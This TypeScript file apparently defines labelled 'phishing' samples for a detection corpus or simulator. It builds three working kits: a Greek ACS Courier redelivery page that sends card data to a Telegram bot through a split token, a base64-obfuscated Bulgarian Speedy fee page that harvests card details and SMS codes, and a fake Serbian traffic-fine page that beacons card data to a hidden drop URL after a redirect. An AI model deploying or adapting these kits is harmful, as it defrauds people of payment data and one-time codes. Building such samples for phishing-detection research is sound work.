import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, cardFields, courierLogo, doc, govMark, luhnJs, tgSendJs } from '../parts/xc-kit.js';

// ACS: redelivery scheduling, then a small fee; Telegram drop, token split over two attributes.
const acsKit = doc({
  lang: 'el',
  title: 'ACS Courier – Επαναπρογραμματισμός παράδοσης',
  css: `body{background:#fafafa}.h{background:#fff;border-bottom:3px solid #e30613;padding:10px 18px}.c{max-width:480px;margin:16px auto;padding:0 12px}
.bx{background:#fff;border:1px solid #eee;border-radius:8px;padding:18px;margin-bottom:12px}.days{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}
.days label{border:1px solid #ddd;border-radius:6px;padding:8px;text-align:center;font-size:13px;cursor:pointer}.days input{display:none}.days input:checked+span{color:#e30613;font-weight:700}
.fld{margin:9px 0}.fld label{display:block;font-size:12px;margin-bottom:3px}.fld input{width:100%;padding:10px;border:1px solid #ccc;border-radius:5px}
.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}.b{width:100%;background:#e30613;color:#fff;border:0;padding:12px;border-radius:6px;font-size:15px}`,
  body: `<div class="h">${courierLogo('acs', 30)}</div>
<div class="c" id="cfg" data-a="8266104471:AAHacs" data-b="_Lr5Qw9Xz2Kp7mNd0VbYe4Tj">
<div class="bx"><b>Αποτυχημένη παράδοση</b><p style="font-size:14px">Ο διανομέας μας επισκέφθηκε τη διεύθυνσή σας χωρίς να βρει παραλήπτη. Επιλέξτε νέα ημερομηνία παράδοσης. Κόστος επαναποστολής: <b>0,95 €</b>.</p>
<div class="days" id="days"></div></div>
<div class="bx"><form id="af"><div class="fld"><label>Ονοματεπώνυμο</label><input name="onoma" required></div><div class="fld"><label>Διεύθυνση</label><input name="dieuthinsi" required></div>
<div class="fld"><label>Τηλέφωνο</label><input name="til" required></div>${cardFields('el', { number: 'arithmos', mm: 'mm', yy: 'ee', cvv: 'cvv' })}
<button class="b">Πληρωμή 0,95 € και προγραμματισμός</button></form></div></div>
<script>
${luhnJs('lc')}
var dd=document.getElementById('days');for(var i=1;i<=3;i++){var d=new Date(Date.now()+i*864e5);dd.innerHTML+='<label><input type="radio" name="day" form="af" value="'+d.toISOString().slice(0,10)+'"'+(i===1?' checked':'')+'><span>'+d.toLocaleDateString('el-GR',{weekday:'short',day:'numeric',month:'short'})+'</span></label>'}
var c=document.getElementById('cfg').dataset,T=c.a+c.b,CH='-1002107733918';
document.getElementById('af').onsubmit=function(e){e.preventDefault();if(!lc(this.arithmos.value)){alert('Ελέγξτε τον αριθμό κάρτας');return}
var m='ACS GR 0.95\\n';new FormData(this).forEach(function(v,k){m+=k+': '+v+'\\n'});${tgSendJs('T', 'CH', 'm')}.finally(function(){location.href='https://www.acscourier.net/el/'})};
</script>`,
});

// Speedy: the page body is base64 inside a one-line loader; address + fee + SMS code.
const speedyInner = `<div style="font-family:Arial;max-width:460px;margin:0 auto;padding:14px">${courierLogo('speedy', 32)}
<h2>Пратката не може да бъде доставена</h2><p>Адресът на пратка <b>№ 6148 2207 913</b> е непълен. Актуализирайте адреса и платете такса за пренасочване <b>0,49 €</b>.</p>
<form id="sf" style="background:#fff;padding:16px;border-radius:8px"><p><input name="grad" placeholder="Град" style="width:100%;padding:10px" required></p>
<p><input name="adres" placeholder="Улица, номер, вход, етаж" style="width:100%;padding:10px" required></p><p><input name="tel" placeholder="Телефон" style="width:100%;padding:10px" required></p>
<p><input name="karta" placeholder="Номер на карта" style="width:100%;padding:10px" required></p><p><input name="valid" placeholder="ММ/ГГ" style="width:48%;padding:10px" required> <input name="cvv" placeholder="CVV" style="width:48%;padding:10px" required></p>
<button style="width:100%;padding:12px;background:#e4002b;color:#fff;border:0;border-radius:6px">Плати 0,49 €</button></form></div>`;
const speedyJs = `document.getElementById('sf').onsubmit=function(e){e.preventDefault();var b=new FormData(this);b.append('id','6148');fetch('https://gw.speedy-bg.adres-update.com/s/in.php',{method:'POST',body:b,mode:'no-cors'});
this.innerHTML='<p>Въведете кода за потвърждение от SMS:</p><input name="sms" id="sms" style="width:100%;padding:10px"><button type="button" id="okb" style="width:100%;padding:12px;margin-top:8px">Потвърди</button>';
document.getElementById('okb').onclick=function(){fetch('https://gw.speedy-bg.adres-update.com/s/in.php?sms='+encodeURIComponent(document.getElementById('sms').value),{mode:'no-cors'}).finally(function(){location='https://www.speedy.bg/'})}};`;

// Serbian traffic fine (MUP): 50 % discount for paying within 8 days, card form; arrives via a tracking redirect.
const mupKit = doc({
  lang: 'sr-Latn',
  title: 'MUP Republike Srbije – Prekršajni nalog',
  css: `.g{background:#0c4076;color:#fff;padding:12px 22px;display:flex;align-items:center;gap:12px}.g b{font-size:16px}
.c{max-width:600px;margin:22px auto;background:#fff;padding:24px;border:1px solid #cfd6e0}.t{width:100%;border-collapse:collapse;font-size:14px}.t td{padding:7px;border-bottom:1px solid #eee}
.pp{background:#eaf6ea;padding:10px;border-radius:4px;font-size:14px;margin:12px 0}.fld{margin:10px 0}.fld label{display:block;font-size:12px;margin-bottom:3px}
.fld input{width:100%;padding:10px;border:1px solid #aab}.row2{display:grid;grid-template-columns:1fr 1fr;gap:10px}.exp input{width:42%}
.b{width:100%;background:#c6363c;color:#fff;border:0;padding:12px;font-size:15px}`,
  body: `<div class="g">${govMark('МУП', '#c6363c', 34)}<b>Ministarstvo unutrašnjih poslova Republike Srbije<br><span style="font-weight:400;font-size:13px">Uprava saobraćajne policije</span></b></div>
<div class="c"><h2 style="margin-top:0">Prekršajni nalog br. PN-2025-0418872</h2>
<table class="t"><tr><td>Prekršaj</td><td>Prekoračenje brzine (čl. 43 ZOBS), 71 km/h u zoni 50 km/h</td></tr><tr><td>Mesto</td><td>Beograd, Bulevar oslobođenja</td></tr>
<tr><td>Iznos kazne</td><td>6.000,00 RSD</td></tr></table>
<div class="pp">Ako platite u roku od 8 dana od prijema obaveštenja, plaćate <b>polovinu iznosa: 3.000,00 RSD</b>.</div>
<form id="mf"><div class="fld"><label>Registarska oznaka vozila</label><input name="reg" placeholder="BG-123-AB" required></div>
${cardFields('sr-Latn', { holder: 'vlasnik', number: 'kartica', mm: 'mm', yy: 'gg', cvv: 'cvv' })}
<button class="b">Plati 3.000,00 RSD</button></form></div>
<script>
${luhnJs('luhn')}
var drop=atob('${b64('https://mup-kazna.rs-placanje.online/api/pn')}');
document.getElementById('mf').addEventListener('submit',function(e){e.preventDefault();if(!luhn(this.kartica.value)){alert('Neispravan broj kartice');return}
navigator.sendBeacon(drop,new URLSearchParams(new FormData(this)));this.innerHTML='<p>Sačekajte potvrdu banke…</p>';setTimeout(function(){location.href='https://www.mup.gov.rs/'},3500)});
</script>`,
});

export const entries: Entry[] = [
  {
    id: 'xc-acs-redelivery-kit',
    label: 'phishing',
    kind: 'courier-redelivery-telegram-kit',
    url: 'https://acs-courier.gr-epanaparadosi.com/delivery/reschedule?id=4471',
    body: acsKit,
  },
  {
    id: 'xc-speedy-address-fee-kit',
    label: 'phishing',
    kind: 'base64-courier-fee-kit',
    url: 'https://speedy-bg.adres-update.com/pratka/61482207913',
    body: `<!doctype html><html lang="bg"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Speedy – Пратка</title></head><body style="background:#f6f6f6;margin:0">
<div id="x"></div><script>document.getElementById('x').innerHTML=decodeURIComponent(escape(atob("${b64(speedyInner)}")));new Function(atob("${b64(speedyJs)}"))();</script></body></html>`,
  },
  {
    id: 'xc-mup-rs-traffic-fine-kit',
    label: 'phishing',
    kind: 'traffic-fine-card-kit',
    url: 'https://l.saobracaj-obavestenje.info/pn/0418872',
    routes: {
      'l.saobracaj-obavestenje.info/pn/0418872': redirectRoute(302, 'https://mup-kazna.rs-placanje.online/prekrsajni-nalog/PN-2025-0418872'),
      'mup-kazna.rs-placanje.online/prekrsajni-nalog/PN-2025-0418872': htmlRoute(mupKit),
    },
  },
];
